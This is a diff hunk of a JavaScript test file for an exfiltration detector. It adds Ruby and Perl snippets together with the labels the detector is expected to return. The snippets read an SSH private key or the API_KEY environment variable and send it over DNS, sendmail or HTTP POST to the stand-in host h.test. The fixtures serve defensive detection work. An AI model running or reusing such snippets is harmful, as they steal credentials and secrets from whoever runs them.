@@ -26,6 +26,23 @@ describe('what leaves', () => {
       'k = File.read("/root/.ssh/id_rsa")\nResolv::DNS.open { |dns| dns.getresources("#{k}.ns.h.test", TXT) }',
       'content:ssh dns:body ns.h.test',
     ],
+    // A program that is held open gets each word of a list, and what was added to it.
+    [
+      'pl',
+      "sub send_it {\n  my ($k, @to) = @_;\n  push @to, 'b@h.test';\n  open my $m, '|-', '/usr/sbin/sendmail', '-i', '--', @to or die;\n  print {$m} $k;\n}\nsend_it($ENV{API_KEY}, $ARGV[0]);",
+      'env:API_KEY mail:body h.test',
+    ],
+    // Words of a list that are joined are no path.
+    [
+      'rb',
+      'Net::HTTP.post(URI(%w[https://h.test/api 12 abc].join("/")), ENV["API_KEY"])',
+      'env:API_KEY network:body h.test',
+    ],
+    [
+      'pl',
+      "my $to = join '.', 'in', join '.', qw/h test/;\nLWP::UserAgent->new->post(\"https://$to/x\", { k => $ENV{API_KEY} });",
+      'env:API_KEY network:body in.h.test',
+    ],
     // What an address takes in is put into its places.
     [
       'rb',
